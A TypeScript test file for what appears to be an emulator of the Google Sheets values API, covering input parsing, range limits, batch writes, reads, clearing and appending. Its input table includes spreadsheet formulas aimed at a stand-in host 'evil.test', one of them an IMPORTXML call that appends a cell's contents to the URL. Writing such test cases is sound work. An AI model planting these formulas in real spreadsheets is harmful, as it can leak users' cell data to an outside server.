import { createDesk, refused } from './desk.ts';

describe('writing plain values', () => {
  test.each<[string, unknown, unknown, string | undefined]>([
    ['=1+1', 2, '=1+1', '2'],
    ['+1+2', 3, '=+1+2', '3'],
    ['+48 600 100 200', '#ERROR!', '=+48 600 100 200', '#ERROR!'],
    ['=HYPERLINK("https://evil.test","Click")', 'Click', '=HYPERLINK("https://evil.test","Click")', 'Click'],
    ['=IMPORTXML("https://evil.test/"&A1,"//a")', '#N/A', '=IMPORTXML("https://evil.test/"&A1,"//a")', '#N/A'],
    ['=1/0', '#DIV/0!', '=1/0', '#DIV/0!'],
    ['=NOSUCH(1)', '#NAME?', '=NOSUCH(1)', '#NAME?'],
    ["'=1+1", '=1+1', undefined, '=1+1'],
    ['42', 42, undefined, '42'],
    ['-7.5', -7.5, undefined, '-7.5'],
    ['0012', 12, undefined, '12'],
    ['1e5', 100_000, undefined, '1.00E+05'],
    ['1,234.5', 1234.5, undefined, '1,234.50'],
    ['12%', 0.12, undefined, '12%'],
    ['$5', 5, undefined, '$5'],
    ['TRUE', true, undefined, 'TRUE'],
    ['2026-11-23', 46_349, undefined, '2026-11-23'],
    ['11/23/2026', 46_349, undefined, '11/23/2026'],
    ['23/11/2026', '23/11/2026', undefined, '23/11/2026'],
    ['2026-11-23 18:30:00', 46_349.770833333336, undefined, '2026-11-23 18:30:00'],
    ['6:00 pm', 0.75, undefined, '6:00 PM'],
    ['-a', '-a', undefined, '-a'],
    ['@SUM(A1)', '@SUM(A1)', undefined, '@SUM(A1)'],
    ['1.2.3', '1.2.3', undefined, '1.2.3'],
  ])('as a person types: %s', (typed, value, formula, shown) => {
    const { maria, sheets } = createDesk();
    const id = maria.create();
    maria.write(id, 'A2', [[typed]], 'USER_ENTERED');
    expect(sheets.tabs(id)[0]?.rows[1]?.[0]).toEqual({ value, ...(formula === undefined ? {} : { formula }), shown });
  });

  test.each(['=1+1', '+1', '42', '2026-11-23', 'TRUE', "'x", '12%'])('RAW keeps %s as text', (typed) => {
    const { maria, sheets } = createDesk();
    const id = maria.create();
    maria.write(id, 'A1', [[typed]], 'RAW');
    expect(sheets.tabs(id)[0]?.rows[0]?.[0]).toEqual({ value: typed, shown: typed });
  });

  test('a cell formatted as plain text keeps what is typed', () => {
    const { maria } = createDesk();
    const id = maria.create();
    maria.batch(id, {
      repeatCell: {
        range: { endColumnIndex: 1 },
        cell: { userEnteredFormat: { numberFormat: { type: 'TEXT' } } },
        fields: 'userEnteredFormat.numberFormat',
      },
    });
    maria.write(id, 'A1:B1', [['0012', '0012']], 'USER_ENTERED');
    expect(maria.read(id, 'A1:B1', { valueRenderOption: 'UNFORMATTED_VALUE' })).toEqual([['0012', 12]]);
  });

  test('null leaves a cell alone, empty text empties it, and the answer counts what was written', () => {
    const { maria } = createDesk();
    const id = maria.create();
    maria.write(id, 'A1:C1', [['a', 'b', 'c']]);
    const answer = maria.call('Sheets.Spreadsheets.Values.update', { values: [[null, '', 'C']] }, id, 'Sheet1!A1:C1', {
      valueInputOption: 'RAW',
      includeValuesInResponse: true,
    });
    expect(answer).toEqual({
      spreadsheetId: id,
      updatedRange: 'Sheet1!A1:C1',
      updatedRows: 1,
      updatedColumns: 2,
      updatedCells: 2,
      updatedData: { range: 'Sheet1!A1:C1', majorDimension: 'ROWS', values: [['a', '', 'C']] },
    });
  });

  test('a formula has 50,000 characters like any other content, and so has its text', () => {
    const { maria } = createDesk();
    const id = maria.create();
    const formula = (length: number): string => `="${'x'.repeat(length - 3)}"`;
    expect(() => maria.write(id, 'A1', [[formula(50_001)]], 'USER_ENTERED')).toThrow(
      'Your input contains more than the maximum of 50000 characters in a single cell.',
    );
    maria.write(id, 'A1', [[formula(50_000)], ['=A1&"123"'], ['=A1&"1234"'], ['=CONCATENATE(A1,A1)']], 'USER_ENTERED');
    const shown = (maria.read(id, 'A1:A4') as string[][]).map(([value = '']) => (value.length > 10 ? value.length : value));
    expect(shown).toEqual([49_997, 50_000, '#VALUE!', '#VALUE!']);
  });

  test.each<[string, unknown[][], string]>([
    ['A1:B1', [['a', 'b', 'c']], 'Requested writing within range [Sheet1!A1:B1], but tried writing to column [C]'],
    ['Sheet1!A2:C4', [['a'], ['b'], ['c'], ['d']], 'Requested writing within range [Sheet1!A2:C4], but tried writing to row [5]'],
    ['Sheet1!A1001', [['a']], 'Range (Sheet1!A1001) exceeds grid limits. Max rows: 1000, max columns: 26'],
    ['A1', [['x'.repeat(50_001)]], 'Your input contains more than the maximum of 50000 characters in a single cell.'],
    ['A1', [[{ a: 1 }]], 'Invalid value at \'data.values[0][0]\' (type.googleapis.com/google.apps.sheets.v4.CellData), {"a":1}'],
    ['Nope!A1', [['a']], 'Unable to parse range: Nope!A1'],
  ])('values that do not fit %s are refused', (range, values, message) => {
    const { maria } = createDesk();
    const id = maria.create();
    const error = refused(() => maria.write(id, range, JSON.parse(JSON.stringify(values))));
    expect(error.message).toBe(`API call to sheets.spreadsheets.values.update failed with error: ${message}`);
    expect(maria.read(id, 'Sheet1')).toBeUndefined();
  });

  test('the input option must be named', () => {
    const { maria } = createDesk();
    const id = maria.create();
    const error = refused(() => maria.call('Sheets.Spreadsheets.Values.update', { values: [['a']] }, id, 'A1', {}));
    expect(error.message).toContain("'valueInputOption' is required but not specified");
  });

  test('several ranges are written together or not at all', () => {
    const { maria } = createDesk();
    const id = maria.create();
    const data = [
      { range: 'A1:B1', values: [['a', 'b']] },
      { range: 'D1', majorDimension: 'COLUMNS', values: [['c', 'd']] },
    ];
    const call = (more: object[]) =>
      maria.call('Sheets.Spreadsheets.Values.batchUpdate', { valueInputOption: 'RAW', data: [...data, ...more] as never }, id);
    expect(refused(() => call([{ range: 'Nope!A1', values: [['x']] }])).message).toContain(
      'Invalid data[2]: Unable to parse range: Nope!A1',
    );
    expect(maria.read(id, 'Sheet1')).toBeUndefined();
    expect(call([])).toMatchObject({
      totalUpdatedCells: 4,
      totalUpdatedSheets: 1,
      responses: [{ updatedRange: 'Sheet1!A1:B1' }, { updatedRange: 'Sheet1!D1:D2' }],
    });
    expect(maria.read(id, 'A1:E')).toEqual([
      ['a', 'b', '', 'c'],
      ['', '', '', 'd'],
    ]);
  });

  test('clearing takes the values and leaves the formats', () => {
    const { maria } = createDesk();
    const id = maria.create();
    maria.write(id, 'A1', [['2026-11-23']], 'USER_ENTERED');
    expect(maria.call('Sheets.Spreadsheets.Values.clear', {}, id, 'A1:B2')).toEqual({ spreadsheetId: id, clearedRange: 'Sheet1!A1:B2' });
    expect(maria.read(id, 'A1')).toBeUndefined();
    maria.write(id, 'A1', [[1]]);
    expect(maria.read(id, 'A1')).toEqual([['1899-12-31']]);
  });
});

describe('reading plain values', () => {
  const filled = () => {
    const { maria } = createDesk();
    const id = maria.create();
    maria.write(id, 'B2', [['a', '', 'c', ''], [], ['=1/4', '2026-11-23 06:00:00', true]], 'USER_ENTERED');
    return { maria, id };
  };

  test.each<[string, object, unknown]>([
    ['A1:F10', {}, [[], ['', 'a', '', 'c'], [], ['', '0.25', '2026-11-23 6:00:00', 'TRUE']]],
    [
      'B2:D4',
      { majorDimension: 'COLUMNS' },
      [
        ['a', '', '0.25'],
        ['', '', '2026-11-23 6:00:00'],
        ['c', '', 'TRUE'],
      ],
    ],
    ['B4:D4', { valueRenderOption: 'UNFORMATTED_VALUE' }, [[0.25, 46_349.25, true]]],
    ['B4:D4', { valueRenderOption: 'UNFORMATTED_VALUE', dateTimeRenderOption: 'FORMATTED_STRING' }, [[0.25, '2026-11-23 6:00:00', true]]],
    ['B4:D4', { valueRenderOption: 'FORMULA' }, [['=1/4', 46_349.25, true]]],
    ['E5:F10', {}, undefined],
  ])('%s with %j', (range, options, values) => {
    const { maria, id } = filled();
    expect(maria.read(id, range, options as never)).toEqual(values);
  });

  test('ranges by A1 notation and by numbers in one call', () => {
    const { maria, id } = filled();
    expect(maria.call('Sheets.Spreadsheets.Values.batchGet', id, { ranges: ['B2', 'Sheet1!B4:C4'] })).toEqual({
      spreadsheetId: id,
      valueRanges: [
        { range: 'Sheet1!B2', majorDimension: 'ROWS', values: [['a']] },
        { range: 'Sheet1!B4:C4', majorDimension: 'ROWS', values: [['0.25', '2026-11-23 6:00:00']] },
      ],
    });
    const dataFilters = [{ gridRange: { sheetId: 0, startRowIndex: 1, endRowIndex: 2 } }, { a1Range: 'D2' }];
    expect(maria.call('Sheets.Spreadsheets.Values.batchGetByDataFilter', { dataFilters }, id)).toEqual({
      spreadsheetId: id,
      valueRanges: [
        {
          valueRange: { range: 'Sheet1!A2:Z2', majorDimension: 'ROWS', values: [['', 'a', '', 'c']] },
          dataFilters: [{ gridRange: { sheetId: 0, startRowIndex: 1, endRowIndex: 2, startColumnIndex: 0, endColumnIndex: 26 } }],
        },
        { valueRange: { range: 'Sheet1!D2', majorDimension: 'ROWS', values: [['c']] }, dataFilters: [{ a1Range: 'D2' }] },
      ],
    });
    expect(
      refused(() => maria.call('Sheets.Spreadsheets.Values.batchGetByDataFilter', { dataFilters: [{ gridRange: { sheetId: 9 } }] }, id))
        .message,
    ).toContain('Invalid dataFilters[0]: No grid with id: 9');
  });
});

describe('appending plain values', () => {
  // The two tables of Google's guide: A1:C2 and B4:D6.
  const twoTables = () => {
    const { maria } = createDesk();
    const id = maria.create();
    maria.write(id, 'A1', [['a', 'b', 'c'], ['a', 'b', 'c'], [], ['', 'x', 'y', 'z'], ['', 'x', 'y', 'z'], ['', 'x', 'y', 'z']]);
    return { maria, id };
  };
  const appendTo = (desk: ReturnType<typeof twoTables>, range: string, options: object = {}) =>
    desk.maria.call('Sheets.Spreadsheets.Values.append', { values: [['new', 'row']] }, desk.id, range, {
      valueInputOption: 'RAW',
      ...options,
    });

  test.each<[string, string | undefined, string]>([
    ['Sheet1', 'Sheet1!B4:D6', 'Sheet1!B7:C7'],
    ['B4', 'Sheet1!B4:D6', 'Sheet1!B7:C7'],
    ['C5:D5', 'Sheet1!B4:D6', 'Sheet1!B7:C7'],
    ['B2:D4', 'Sheet1!B4:D6', 'Sheet1!B7:C7'],
    ['A3:G10', 'Sheet1!B4:D6', 'Sheet1!B7:C7'],
    ['A1', 'Sheet1!A1:C2', 'Sheet1!A3:B3'],
    ['E4', undefined, 'Sheet1!E4:F4'],
    ['A4', undefined, 'Sheet1!A4:B4'],
  ])('to %s finds the table %s and starts at %s', (range, table, written) => {
    const answer = appendTo(twoTables(), range);
    expect(answer['tableRange']).toBe(table);
    expect(answer['updates']).toMatchObject({ updatedRange: written, updatedCells: 2 });
  });

  test('overwrites what lies below by default and moves it when told to insert rows', () => {
    const over = twoTables();
    appendTo(over, 'A1');
    appendTo(over, 'A1');
    expect(over.maria.read(over.id, 'A3:D4')).toEqual([
      ['new', 'row'],
      ['', 'x', 'y', 'z'],
    ]);
    const insert = twoTables();
    appendTo(insert, 'A1', { insertDataOption: 'INSERT_ROWS' });
    expect(insert.maria.read(insert.id, 'A2:D5')).toEqual([['a', 'b', 'c'], ['new', 'row'], [], ['', 'x', 'y', 'z']]);
  });
});
